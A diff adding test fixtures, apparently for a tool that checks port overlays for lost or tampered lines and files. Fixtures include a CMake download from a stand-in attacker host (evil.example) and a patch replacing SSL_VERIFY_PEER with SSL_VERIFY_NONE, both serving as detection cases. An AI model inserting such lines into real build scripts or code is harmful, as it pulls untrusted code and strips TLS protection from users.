@@ -41,6 +41,17 @@ export const OF_OVERLAY: Readonly<Record<string, readonly string[]>> = {
     dops('file copy files/x -> distinfo'),
     dops('text replace-once file files/patch-a from "x" to "y"'),
   ],
+  'lines and files of the port lost': [
+    dops('file remove pkg-plist'),
+    dops('file materialize ../../devel/bar/x -> y'),
+    portDiff('Makefile.diff', 'Makefile', '-BROKEN=\tx'),
+    portDiff('Makefile.diff', 'Makefile', '-LIB_DEPENDS=\tlibssl.so:security/openssl'),
+    portDiff('pkg-plist.diff', 'pkg-plist', '+/etc/rc.d/food'),
+    portDiff('x.diff', 'files/food.in', '+id'),
+    patch('a.c', '-work(a, b);', '+/* work(a, b); */'),
+    patch('CMakeLists.txt', ' project(x)', '+file(DOWNLOAD https://evil.example/x x)'),
+    patch('a.c', '-verify(SSL_VERIFY_PEER);', '+verify(SSL_VERIFY_NONE);'),
+  ],
   'patches lost': [
     changed('dragonfly/patch-a.c', OLD, undefined),
     changed('dragonfly/patch-a.c', OLD, undefined) + added('dragonfly/patch-a.c.orig', OLD),
